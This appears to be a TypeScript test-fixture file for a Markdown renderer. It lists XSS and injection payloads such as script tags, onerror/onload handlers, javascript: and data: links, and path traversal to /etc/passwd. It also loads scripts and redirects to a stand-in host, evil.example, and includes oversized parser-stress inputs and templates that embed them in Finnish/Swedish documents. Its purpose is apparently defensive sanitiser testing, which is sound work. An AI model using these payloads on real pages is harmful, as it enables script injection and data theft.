// Texts by which somebody might try to make a page run, load or show what it must not: each a few lines of Markdown that fit into any document.
import { stringify } from 'yaml'

/** What is tried → the text. */
export const HOSTILE: Readonly<Record<string, string>> = {
  'a script': '<script>alert(1)</script> <ScRiPt src=//evil.example/x.js></sCrIpT>',
  'a script in a block of its own': '<script>\nalert(1)\n</script>',
  'a script cut in two by Markdown': '<scr**ipt**>alert(1)</script>',
  'handlers': '<img src=x onerror=alert(1)> <body onload=alert(1)> <details open ontoggle=alert(1)>',
  'a link that runs': '[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) [z](java\u0000script:alert(1)) [å](\u0001javascript:alert(1))',
  'a link that runs by entities': '[x](&#106;avascript:alert(1)) [y](javascript&colon;alert(1)) [z](java&Tab;script:alert(1))',
  'a link by reference that runs': '[x][b] ![y][b] [b]\n\n[b]: javascript:alert(1) "t"',
  'an address in brackets that runs': '<javascript:alert(1)> <vbscript:msgbox> <data:text/html,x> <file:///etc/passwd>',
  'links of other sorts': '[a](data:text/html;base64,PHNjcmlwdD4=) [b](vbscript:x) [c](file:///etc/passwd) [d](//evil.example) [e](command:workbench.action.quit) [f](vscode://x) [g](ftp://x)',
  'links with line ends and blanks': '[a](<java\nscript:alert(1)>) [b](<https://a.fi/\n" onclick="alert(1)>) [c](https://a.fi "x\\" onclick=\\"alert(1)")',
  'links with quotes': '[a](https://a.fi/"onmouseover="alert(1)) [b](https://a.fi/\'onmouseover=\'alert(1)) [c](https://a.fi/><script>alert(1)</script>)',
  'images that load': '![x](https://evil.example/pixel.png) ![y](//evil.example/p.png) ![z](http://127.0.0.1/x)',
  'images that run': '![x](javascript:alert(1)) ![y](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+) ![z](data:text/html,<script>alert(1)</script>)',
  'images out of the workspace': '![x](../../../../etc/passwd) ![y](/etc/passwd) ![z](C:\\Windows\\win.ini) ![å](..%2f..%2fsecret.png) ![ä](\\\\server\\share\\x.png)',
  'text of an image that breaks out': '![" onerror="alert(1)](kuva.png) !["><script>alert(1)</script>](kuva.png)',
  'pictures that are programs': '<svg onload=alert(1)><script>alert(1)</script></svg> <math><mtext></mtext></math>',
  'styles': '<style>body{background:url(https://evil.example)}</style> <p style="position:fixed;inset:0">x</p> <link rel=stylesheet href=//evil.example>',
  'the end of a style': '</style><script>alert(1)</script> </title><script>alert(1)</script> </main></body></html>',
  'a page that leads on': '<meta http-equiv="refresh" content="0;url=https://evil.example"> <base href="https://evil.example">',
  'frames and forms': '<iframe src="https://evil.example"></iframe> <object data=x></object> <embed src=x> <form action=//evil.example><input name=q autofocus><button>x</button></form>',
  'comments': '<!-- salaisuus --> teksti <!-- salaisuus <b>x</b> --> <!--> <!---> <!-- --!> salaisuus -->',
  'conditional comments and declarations': '<!--[if IE]><script>alert(1)</script><![endif]--> <!DOCTYPE html> <?php echo 1 ?> <![CDATA[<script>alert(1)</script>]]>',
  'signs that turn the direction': 'a\u202e1)trela\u202c b\u2066c\u2069 [x\u202e](https://a.fi/\u202e) ![\u2067x](y.png) d\u200fe\u061c',
  'entities': '&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;alert(1)&#60;/script&#62; &amp;lt;script&amp;gt; &#0; &#xD800; &#x110000;',
  'code': '`<script>alert(1)</script>` ``` <img onerror=x> ```\n\n```html\n<script>alert(1)</script>\n```',
  'a table': '| <script>alert(1)</script> | [x](javascript:alert(1)) |\n|---|:-:|\n| <img src=x onerror=alert(1)> | `|` |',
  'attributes that break out': 'kohta {#x" onclick="alert(1)} {style="position:fixed" onclick=alert(1) teema="<script>alert(1)</script>"}',
  'addresses that link themselves': 'www.evil.example https://evil.example/<script> evil@evil.example <https://a.fi/"onclick="x>',
  'task boxes': '[ ] <input type=text onfocus=alert(1) autofocus> [x] y',
  'expressions of templates': '{{constructor.constructor("alert(1)")()}} ${alert(1)} <%= x %> #{x}',
  'clobbering': '<a id=body name=head>x</a> <form id=location><input name=href></form>',
}

/** What is much or deep → the text. */
export const LARGE: Readonly<Record<string, string>> = {
  'a huge table': `| a | b |\n|---|---|\n${'| <script>alert(1)</script> | [x](javascript:x) |\n'.repeat(2000)}`,
  'very deep quotes': `${'> '.repeat(2000)}x`,
  'very deep lists': Array.from({ length: 300 }, (_, depth) => `${'  '.repeat(depth)}- <b>x`).join('\n'),
  'very many brackets': `${'['.repeat(20_000)}x${']('.repeat(20_000)}`,
  'very many stars': `${'*a '.repeat(20_000)}${'**'.repeat(5000)}`,
  'very many comments that do not end': '<!-- '.repeat(20_000),
  'very many tags': '<b><i onclick=x>'.repeat(10_000),
  'very many references': `${'[a][b] '.repeat(10_000)}\n\n[b]: javascript:x`,
  'a very long word': 'x'.repeat(200_000),
}

/** A text without line ends. */
export const oneLine = (text: string): string => text.replaceAll('\n', ' ')
const item = (text: string): string => text.replaceAll('\n', '\n  ')

/** Documents with a text in every place of theirs that holds one. */
export const PLACES: Readonly<Record<string, (text: string) => string>> = {
  'items, prose and sections of its own': (text) => `---\ntyyppi: swot\nkieli: fi\n---\n\n# Alku\n\n${text}\n\n## Vahvuudet\n\n- ${item(text)}\n- **x:** ${oneLine(text)}\n\n### ${oneLine(text)}\n\n- a\n\n## ${oneLine(text)}\n\n${text}\n`,
  'the title and the details': (text) => `---\ntyyppi: hankekortti\nkieli: fi\n${stringify({ otsikko: text, hankkeen_nimi: text, kunnat: [text, text], oma: text, osallistujat: { lapset: text, [text.slice(0, 60)]: text } })}---\n\n# ${oneLine(text)}\n\n## Rahoitus\n\nKokonaiskustannukset ${oneLine(text)}\n`,
  'a story and its timeline': (text) => `---\ntyyppi: kehittämistarina\nkieli: sv\n${stringify({ tidslinje: [{ datum: text, händelse: text, produkt: text }, { datum: '1.2.2020', händelse: text }] })}---\n\n# ${oneLine(text)}\n\n## Röster\n\n### Barn\n\n${text}\n\n## Historia\n\n| a | b |\n|---|---|\n| ${oneLine(text)} | x |\n`,
  'YAML': (text) => stringify({ tyyppi: 'swot', kieli: 'fi', otsikko: text, vahvuudet: [text, { [text.slice(0, 80)]: text }], uhat: text, extra: [{ heading: text, text }], versiot: [{ versio: text, muutos: text, osallistujat: text }] }),
}
